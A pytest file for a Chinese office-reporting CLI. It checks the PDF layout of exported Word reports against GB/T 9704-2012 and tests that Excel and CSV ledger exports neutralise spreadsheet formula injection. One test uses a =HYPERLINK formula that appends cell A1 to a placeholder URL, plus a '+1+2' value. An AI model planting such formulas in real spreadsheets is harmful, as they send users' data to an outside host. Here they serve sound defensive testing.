"""What an office receives, read by the software offices use: each model's Word report converted
to PDF by LibreOffice and measured (GB/T 9704-2012), the Excel ledger opened by LibreOffice Calc."""

from __future__ import annotations

import json
import re
from statistics import median

import pytest

from coordtui.cli import main

from office import MM, convert, read_pdf, soffice

AS_OF = "2026-10-15"
ORGS = ("tjpu", "pingluo", "zikuang", "usst", "tianjin")


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path = tmp_path_factory.mktemp("office") / "db"
    assert main(["init", "--db", str(path), "--examples"]) == 0
    return path


@pytest.fixture(scope="module")
def reports(db, tmp_path_factory):
    """Every example organization's 2026Q3 report as a PDF, converted in one LibreOffice run per file."""
    soffice()
    out = tmp_path_factory.mktemp("reports")
    pdfs = {}
    for org in ORGS:
        docx = out / f"{org}.docx"
        assert main(["export", "--db", str(db), "--org", org, "--format", "docx", "--as-of", AS_OF,
                     "--period", "2026Q3", "--out", str(docx)]) == 0
        pdfs[org] = read_pdf(convert(docx, "pdf", out))
    return pdfs


def record_ids(db, tmp_path, org):
    out = tmp_path / f"{org}.json"
    assert main(["export", "--db", str(db), "--org", org, "--out", str(out)]) == 0
    # ids a reader would notice: those with a letter and a digit or a hyphen (g1-2026q3, plan-g1-2026q3)
    return {i["id"] for i in json.loads(out.read_text())["items"] if re.search(r"[A-Za-z]", i["id"]) and re.search(r"[\d-]", i["id"])
            and len(i["id"]) >= 4}


def ink_right(word) -> float:
    trailing = len(word.text) - len(word.text.rstrip("，。；：、）”"))
    return word.x1 - min(trailing, 1) * (word.x1 - word.x0) / len(word.text)


@pytest.mark.parametrize("org", ORGS)
def test_word_report_is_an_a4_official_document(reports, db, tmp_path, org):
    pdf = reports[org]
    assert abs(pdf.width - 210 * MM) < 1 and abs(pdf.height - 297 * MM) < 1  # A4, not Letter
    footer_top = pdf.height - 35 * MM
    numbers = {}
    for page in range(1, pdf.pages + 1):
        lines = pdf.lines(page)
        body = [line for line in lines if line[0].y1 < footer_top + 2]
        # the text block: 28 mm from the left, 26 mm from the right, 37 mm from the top
        assert min(w.x0 for line in body for w in line) >= 28 * MM - 1.5
        # (LibreOffice hangs a closing full-width sign past the margin rather than start a line with it)
        assert max(ink_right(w) for line in body for w in line) <= (210 - 26) * MM + 1.5
        assert min(w.y0 for line in body for w in line) >= 37 * MM - 3
        assert len(body) <= 22, (org, page)
        if page < pdf.pages and page > 1:
            gaps = [b[0].y1 - a[0].y1 for a, b in zip(body, body[1:])]
            assert abs(median(gaps) - 28.95) < 0.5  # exact lines of the 22-line grid, no paragraph spacing
        texts = ["".join(w.text for w in line) for line in body]
        for a, b in zip(texts, texts[1:]):
            assert not (a[-1:].isdigit() and b[:1].isdigit()), (org, page, a, b)  # no number broken over lines
        foot = [line for line in lines if line[0].y1 > footer_top + 2]
        assert len(foot) == 1, (org, page)
        text = "".join(w.text for w in foot[0])
        numbers[page] = text
        assert text == f"—{page}—"
        if page % 2:  # odd pages: right, one character (14 pt) in; even pages: left
            assert abs(max(w.x1 for w in foot[0]) - ((210 - 26) * MM - 14)) < 3
        else:
            assert abs(min(w.x0 for w in foot[0]) - (28 * MM + 14)) < 3
        assert footer_top + 7 * MM - 3 < foot[0][0].y0 < footer_top + 7 * MM + 8
    text = pdf.text()
    for record_id in record_ids(db, tmp_path, org):
        assert record_id not in text, (org, record_id)
    assert not re.search(r"\d{4}-\d{2}-\d{2}", text)  # dates written 2026年10月15日
    # the issuing body signs and prints it (an organization that is a discipline body signs as itself)
    issuer = {"pingluo": "平罗县纪委监委", "tianjin": "天津市纪委监委"}.get(org, "纪律检查委员会")
    assert text.count(issuer) >= 2 and "2026年10月15日印发" in text


def test_a_long_report_fills_whole_pages_of_22_lines(reports):
    pdf = reports["zikuang"]
    assert pdf.pages >= 3
    full = [len([line for line in pdf.lines(p) if line[0].y1 < pdf.height - 35 * MM]) for p in range(2, pdf.pages)]
    assert 22 in full, full


INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'


def test_ledger_opened_in_libreoffice_shows_titles_dates_and_text_not_formulas(tmp_path):
    import csv

    soffice()
    db = tmp_path / "db"
    assert main(["init", "--db", str(db), "--examples"]) == 0
    rows = tmp_path / "in.csv"
    with open(rows, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["协作组", "活动名称", "活动形式", "开始", "结束"],
                                  ["第一协作组", INJECTION, "协同工作指导", "2026-09-03", "2026-09-03"],
                                  ["第二协作组", "+1+2", "协同工作指导", "2026-09-04", "2026-09-04"]])
    assert main(["import", str(rows), "--db", str(db), "--org", "tjpu", "--kind", "activity"]) == 0
    ledger = tmp_path / "ledger.xlsx"
    assert main(["export", "--db", str(db), "--org", "tjpu", "--format", "xlsx", "--as-of", AS_OF, "--period", "2026Q3",
                 "--out", str(ledger)]) == 0
    out = tmp_path / "calc"
    # every sheet as shown on screen (LibreOffice writes one csv per sheet)
    convert(ledger, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1", out)
    sheet = list(csv.reader(open(out / "ledger-协作活动.csv", encoding="utf-8")))
    assert sheet[0][0] == "天津工业大学 2026年第三季度 协作活动台账" and sheet[1][:3] == ["序号", "协作组", "活动名称"]
    titles = {row[2]: row for row in sheet[2:]}
    assert INJECTION in titles and "+1+2" in titles and "点击查看" not in titles and "3" not in titles
    assert titles[INJECTION][5] == "2026年9月3日"  # a date cell in a Chinese date format, not text
    assert [row[0] for row in sheet[2:]] == [str(n) for n in range(1, len(sheet) - 1)]  # 序号
    # the csv export: LibreOffice opens the title as text too
    flat = tmp_path / "activity.csv"
    assert main(["export", "--db", str(db), "--org", "tjpu", "--format", "csv", "--kind", "activity", "--out", str(flat)]) == 0
    from openpyxl import load_workbook

    book = load_workbook(convert(flat, "xlsx", tmp_path / "calc2"))
    cells = [c for row in book.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type != "f" for c in cells)
    # and our own import gives back the title as it was written
    fresh = tmp_path / "fresh"
    assert main(["init", "--db", str(fresh), "--examples"]) == 0
    assert main(["import", str(flat), "--db", str(fresh), "--org", "tjpu", "--kind", "activity"]) == 0
    from coordtui.store import Store

    assert INJECTION in {d["title"] for d in Store(fresh).query("tjpu", "activity")}
